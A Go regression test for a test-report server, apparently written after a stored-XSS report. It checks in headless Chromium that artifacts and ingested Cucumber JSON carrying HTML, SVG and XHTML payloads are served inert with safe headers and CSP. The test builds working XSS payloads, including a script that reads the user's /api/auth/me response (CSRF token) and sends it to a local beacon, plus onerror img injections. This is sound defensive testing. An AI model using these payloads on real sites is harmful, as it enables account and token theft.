package app_test

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os/exec"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/browser"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"
	"github.com/google/uuid"
	"github.com/jackc/pgx/v5"

	"github.com/sdods/sdods/gen/serverclient"
	"github.com/sdods/sdods/impl/server/app/apptest"
)

// beacon is where an XSS payload reports that it ran: every hit is counted.
type beacon struct {
	*httptest.Server
	mu   sync.Mutex
	hits []string
}

func newBeacon(t *testing.T) *beacon {
	t.Helper()
	b := &beacon{}
	mux := http.NewServeMux()
	mux.HandleFunc("/hit", func(w http.ResponseWriter, r *http.Request) {
		b.mu.Lock()
		b.hits = append(b.hits, r.Method+" "+r.URL.RawQuery)
		b.mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Content-Type", "image/gif")
		_, _ = w.Write([]byte("GIF89a"))
	})
	// The control: the same payload as a page of its own, which must run.
	mux.HandleFunc("/control", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, b.payload("control"))
	})
	b.Server = httptest.NewServer(mux)
	t.Cleanup(b.Close)
	return b
}

// payload is HTML whose script marks the page, reads the caller's CSRF token from the API of the
// origin it runs on (what the reported attack did) and reports both to the beacon, by an image
// (which holds the load event) and by fetch.
func (b *beacon) payload(tag string) string {
	return `<!doctype html><html><head><title>innocent</title></head><body>
<script>
window.xssRan = true; document.title = 'XSS ` + tag + `';
new Image().src = '` + b.URL + `/hit?img=` + tag + `&origin=' + encodeURIComponent(location.origin);
fetch('/api/auth/me', {credentials: 'include'}).then(function (r) { return r.text(); }).then(function (me) {
  fetch('` + b.URL + `/hit?me=` + tag + `&body=' + encodeURIComponent(me), {mode: 'no-cors'});
});
</script>
<img src="x" onerror="window.xssRan = true; new Image().src = '` + b.URL + `/hit?onerror=` + tag + `'">
</body></html>`
}

// inline is markup that runs script when a page puts it into its HTML unescaped.
func (b *beacon) inline(tag string) string {
	return `<img src=x onerror="window.xssRan=true;new Image().src='` + b.URL + `/hit?inline=` + tag + `'"><script>window.xssRan=true</script>`
}

func (b *beacon) count() []string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return append([]string(nil), b.hits...)
}

// waitFor waits until a hit contains want.
func (b *beacon) waitFor(t *testing.T, want string) {
	t.Helper()
	for deadline := time.Now().Add(20 * time.Second); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		for _, h := range b.count() {
			if strings.Contains(h, want) {
				return
			}
		}
	}
	t.Fatalf("the beacon never saw %q: %v", want, b.count())
}

func (b *beacon) reset() {
	b.mu.Lock()
	b.hits = nil
	b.mu.Unlock()
}

// headless starts Chromium signed in as the browser b of server s; it returns the page context.
func headless(t *testing.T, s *apptest.Server, b *apptest.Browser) context.Context {
	t.Helper()
	chromium, err := exec.LookPath("chromium")
	if err != nil {
		t.Fatal("chromium is required: make deps installs it")
	}
	alloc, cancelAlloc := chromedp.NewExecAllocator(context.Background(), chromedp.ExecPath(chromium), chromedp.Headless, chromedp.NoSandbox, chromedp.DisableGPU,
		chromedp.UserDataDir(t.TempDir()), chromedp.Flag("disable-dev-shm-usage", true), chromedp.Flag("no-first-run", true))
	t.Cleanup(cancelAlloc)
	bctx, cancelBrowser := chromedp.NewContext(alloc)
	t.Cleanup(cancelBrowser)
	u, _ := http.NewRequest("GET", s.URL, nil)
	var sid string
	for _, c := range b.Jar.Cookies(u.URL) {
		if c.Name == "sdods_sid" {
			sid = c.Value
		}
	}
	if _, err := chromedp.Call(bctx, network.SetCookie, network.SetCookieParams{Name: "sdods_sid", Value: sid, URL: s.URL + "/"}); err != nil {
		t.Fatalf("chromium: %v", err)
	}
	// A download is refused rather than written somewhere.
	if _, err := chromedp.Call(bctx, browser.SetDownloadBehavior, browser.SetDownloadBehaviorParams{Behavior: browser.SetDownloadBehaviorBehaviorDeny}); err != nil {
		t.Fatalf("chromium: downloads: %v", err)
	}
	return bctx
}

// visit opens url in Chromium and reports whether the page's script ran (window.xssRan), with
// the document's title and content type; a navigation that ends in a refused download leaves
// the previous page (about:blank, shown as contentType "download").
func visit(t *testing.T, bctx context.Context, url string) (ran bool, title, contentType string) {
	t.Helper()
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatalf("chromium: %s: %v", url, err)
		}
	}
	ctx, cancel := context.WithTimeout(bctx, 30*time.Second)
	defer cancel()
	must(chromedp.Do(ctx, chromedp.Navigate("about:blank")))
	_ = chromedp.Do(ctx, chromedp.Navigate(url)) // a download aborts the navigation
	state, err := chromedp.Run(ctx, chromedp.Evaluate[[]string](`[String(window.xssRan === true), document.title, document.contentType, location.href]`))
	must(err)
	if state[3] == "about:blank" {
		state[2] = "download"
	}
	return state[0] == "true", state[1], state[2]
}

// contentTarget is the application a run's HTTP steps call: it answers HTML with a script under
// media types a browser might render, as an attacker's target would.
func contentTarget(t *testing.T, b *beacon) *httptest.Server {
	t.Helper()
	mux := http.NewServeMux()
	for path, ct := range map[string]string{"/comma": "video/mp4, text/html", "/html": "text/html; charset=utf-8", "/svg": "image/svg+xml"} {
		ct := ct
		mux.HandleFunc(path, func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", ct)
			fmt.Fprint(w, b.payload(strings.TrimPrefix(r.URL.Path, "/")))
		})
	}
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return srv
}

const attachedResponsesFeature = `Feature: Responses a step attaches

  Scenario: A comma-separated content type
    When I send a GET request to "/comma"
    Then the response status is 201

  Scenario: An HTML response
    When I send a GET request to "/html"
    Then the response status is 201

  Scenario: An SVG response
    When I send a GET request to "/svg"
    Then the response status is 201
`

// servedArtifact is one artifact as the API serves it.
type servedArtifact struct {
	id, runFile, name, stored string
}

// TestContentFromTestsNeverRunsAsScript is the stored XSS of issue 17 item 2, refused: HTML with
// a script arrives as a step's response body (Content-Type "video/mp4, text/html", text/html,
// SVG) and as ingested Cucumber JSON embeddings ("video/x,text/html", text/html, SVG, XHTML), and
// an artifact stored before the fix is given a bad type in the database. Each one, opened in
// headless Chromium by a signed-in admin from /api/artifacts/{id} and from the run's files, runs
// no script: the page is not marked and the beacon the script calls sees nothing, while the same
// payload as a page of its own does run (the control). The headers (allow-listed type, nosniff,
// a sandboxing CSP, CORP, attachment for the rest) are checked too, and the report and the trace
// viewer carry their CSP.
func TestContentFromTestsNeverRunsAsScript(t *testing.T) {
	s := apptest.Start(t)
	ctx := context.Background()
	admin := s.Setup(t)
	bc := newBeacon(t)
	target := contentTarget(t, bc)
	project(t, admin, target.URL, map[string]string{"content/responses.feature": attachedResponsesFeature})
	token := apptest.Token(t, admin, "runs:ingest", "runs:read", "runs:write", "artifacts:read")

	// A real run whose failing assertions attach the responses.
	runID := createRun(t, admin.ClientWithResponses, serverclient.CreateRunJSONRequestBody{Project: "shop", Environment: ptr("local")})
	run := waitRun(t, admin.ClientWithResponses, runID, terminal)
	if run.Counts.Failed != 3 {
		t.Fatalf("run %s %+v", run.Status, run.Counts)
	}
	var arts []servedArtifact
	for _, sc := range scenariosOf(t, admin, runID) {
		for _, st := range sc.Steps {
			for _, a := range st.Attachments {
				arts = append(arts, servedArtifact{id: a.ArtifactId.String(), runFile: "/api/runs/" + runID.String() + "/files/artifacts/" + a.ArtifactId.String(), name: sc.Name + ": " + a.Name, stored: a.MediaType})
			}
		}
	}
	if len(arts) != 3 {
		t.Fatalf("attached responses: %+v", arts)
	}

	// Ingested Cucumber JSON with embeddings of hostile types.
	var embeddings []map[string]string
	for i, mt := range []string{"video/x,text/html", "text/html", "image/svg+xml", "application/xhtml+xml", "text/html;charset=utf-8, video/mp4"} {
		embeddings = append(embeddings, map[string]string{"mime_type": mt, "name": fmt.Sprintf("embedding-%d", i), "data": base64.StdEncoding.EncodeToString([]byte(bc.payload(fmt.Sprintf("ingest%d", i))))})
	}
	doc, _ := json.Marshal([]any{map[string]any{"uri": "features/x.feature", "id": "x", "keyword": "Feature", "name": "X", "line": 1,
		"elements": []any{map[string]any{"id": "x;y", "keyword": "Scenario", "type": "scenario", "name": bc.inline("name"), "line": 2,
			"steps": []any{map[string]any{"keyword": "Given ", "name": "a page", "line": 3, "embeddings": embeddings,
				"result": map[string]any{"status": "failed", "duration": 1000, "error_message": bc.inline("error")}}}}}}})
	ingestID := ingestRun(t, s.Bearer(t, token))
	if status, _, body := ingestDoc(t, s, token, ingestID, "application/json", doc); status != http.StatusOK {
		t.Fatalf("ingest: %d %s", status, body)
	}
	for _, sc := range scenariosOf(t, admin, ingestID) {
		for _, st := range sc.Steps {
			for _, a := range st.Attachments {
				arts = append(arts, servedArtifact{id: a.ArtifactId.String(), runFile: "/api/runs/" + ingestID.String() + "/files/artifacts/" + a.ArtifactId.String(), name: "ingested " + a.Name, stored: a.MediaType})
			}
		}
	}
	if len(arts) != 8 {
		t.Fatalf("artifacts: %+v", arts)
	}
	for _, a := range arts {
		if a.stored != "text/plain" && a.stored != "application/octet-stream" {
			t.Errorf("%s stored as %q", a.name, a.stored)
		}
	}

	// Data stored before the fix: the database says text/html and a comma list.
	conn, err := pgx.Connect(ctx, s.DatabaseURL)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close(ctx)
	for i, mt := range []string{"text/html", "video/x,text/html"} {
		if _, err := conn.Exec(ctx, `UPDATE artifacts SET media_type = $1 WHERE id = $2`, mt, arts[i].id); err != nil {
			t.Fatal(err)
		}
		arts[i].name += " (stored as " + mt + ")"
	}

	allowed := map[string]bool{"text/plain; charset=utf-8": true, "application/octet-stream": true}
	for _, a := range arts {
		for _, path := range []string{"/api/artifacts/" + a.id, a.runFile} {
			status, _, h := s.Do(t, "GET", path, "", nil, "Authorization", "Bearer "+token)
			ct := h.Get("Content-Type")
			if status != 200 || !allowed[ct] || h.Get("X-Content-Type-Options") != "nosniff" || !strings.Contains(h.Get("Content-Security-Policy"), "sandbox") ||
				!strings.Contains(h.Get("Content-Security-Policy"), "default-src 'none'") || h.Get("Cross-Origin-Resource-Policy") != "same-origin" {
				t.Errorf("%s %s: %d %v", a.name, path, status, h)
			}
			if ct == "application/octet-stream" && !strings.HasPrefix(h.Get("Content-Disposition"), "attachment") {
				t.Errorf("%s %s: an unknown type not served as a download: %v", a.name, path, h)
			}
		}
	}

	// The report and the trace viewer: only their own script.
	for path, want := range map[string][]string{
		"/reports/" + runID.String() + "/index.html":         {"sandbox allow-scripts", "script-src 'sha256-", "img-src data:"},
		"/api/runs/" + runID.String() + "/files/report.html": {"sandbox allow-scripts", "script-src 'sha256-"},
		"/trace/": {"script-src 'sha256-", "connect-src 'self'", "frame-ancestors 'none'"},
		"/api/runs/" + runID.String() + "/files/trace.json": {"sandbox"},
	} {
		status, _, h := s.Do(t, "GET", path, "", nil, "Authorization", "Bearer "+token)
		csp := h.Get("Content-Security-Policy")
		// Only the trace viewer allows inline style: a DOM snapshot in its sandboxed srcdoc frame
		// inherits its policy and renders with its own styles (docs/reports.md); script never.
		inline := strings.Contains(csp, "unsafe-inline")
		if path == "/trace/" {
			inline = strings.Contains(directive(csp, "script-src"), "unsafe-inline") || directive(csp, "style-src") != "style-src 'unsafe-inline'"
		}
		if status != 200 || h.Get("X-Content-Type-Options") != "nosniff" || h.Get("Cross-Origin-Resource-Policy") != "same-origin" ||
			inline || strings.Contains(csp, "unsafe-eval") {
			t.Errorf("%s: %d %v", path, status, h)
		}
		for _, w := range want {
			if !strings.Contains(csp, w) {
				t.Errorf("%s: CSP %q lacks %q", path, csp, w)
			}
		}
	}

	// In Chromium, signed in as the admin whose CSRF token the payload is after.
	bctx := headless(t, s, admin)
	if ran, title, _ := visit(t, bctx, bc.URL+"/control"); !ran || title != "XSS control" {
		t.Fatalf("the control payload did not run (ran %v, title %q): the test cannot see a script run", ran, title)
	}
	bc.waitFor(t, "me=control") // the payload's last, asynchronous report
	bc.reset()
	for _, a := range arts {
		for _, path := range []string{"/api/artifacts/" + a.id, a.runFile} {
			ran, title, ct := visit(t, bctx, s.URL+path)
			if ran || strings.HasPrefix(title, "XSS") || ct == "text/html" || ct == "image/svg+xml" || ct == "application/xhtml+xml" {
				t.Errorf("%s %s: script ran %v, title %q, document %s", a.name, path, ran, title, ct)
			}
		}
	}

	// The report and the trace viewer of the ingested run show the hostile scenario name and
	// error as text, and run only their own script.
	ctx2, cancel := context.WithTimeout(bctx, 60*time.Second)
	defer cancel()
	if err := chromedp.Do(ctx2, chromedp.Navigate(s.URL+"/reports/"+ingestID.String()+"/")); err != nil {
		t.Fatalf("chromium: the report: %v", err)
	}
	shown, err := chromedp.Run(ctx2, chromedp.Evaluate[[]string](`[String(window.xssRan === true), document.body.innerText, String(document.querySelectorAll('tr.scenario').length)]`))
	if err != nil || shown[0] != "false" || !strings.Contains(shown[1], "<img src=x onerror=") || shown[2] != "1" {
		t.Errorf("the report: %v %q", err, shown)
	}
	if err := chromedp.Do(ctx2, chromedp.Navigate(s.URL+"/trace/?run="+ingestID.String()), chromedp.WaitVisible(chromedp.CSS(".row.step"))); err != nil {
		t.Fatalf("chromium: the trace viewer: %v", err)
	}
	shown, err = chromedp.Run(ctx2, chromedp.Evaluate[[]string](`[String(window.xssRan === true), document.body.innerText]`))
	if err != nil || shown[0] != "false" || !strings.Contains(shown[1], "<script>window.xssRan=true</script>") {
		t.Errorf("the trace viewer: %v %q", err, shown)
	}
	if hits := bc.count(); len(hits) != 0 {
		t.Fatalf("the payload reached the beacon from the API origin: %v", hits)
	}
}

// scenariosOf returns a run's scenarios with their steps.
func scenariosOf(t *testing.T, b *apptest.Browser, id uuid.UUID) []serverclient.RunScenario {
	t.Helper()
	r, err := b.GetRunWithResponse(context.Background(), id)
	if err != nil || r.JSON200 == nil {
		t.Fatalf("get run: %v", err)
	}
	var out []serverclient.RunScenario
	for _, m := range r.JSON200.Modules {
		for _, f := range m.Features {
			for _, sc := range f.Scenarios {
				got, err := b.GetRunScenarioWithResponse(context.Background(), id, sc.Id)
				if err != nil || got.JSON200 == nil {
					t.Fatalf("get scenario: %v", err)
				}
				out = append(out, *got.JSON200)
			}
		}
	}
	return out
}

// directive returns the directive of a Content-Security-Policy named name, or "".
func directive(csp, name string) string {
	for _, d := range strings.Split(csp, ";") {
		if d = strings.TrimSpace(d); strings.HasPrefix(d, name+" ") {
			return d
		}
	}
	return ""
}
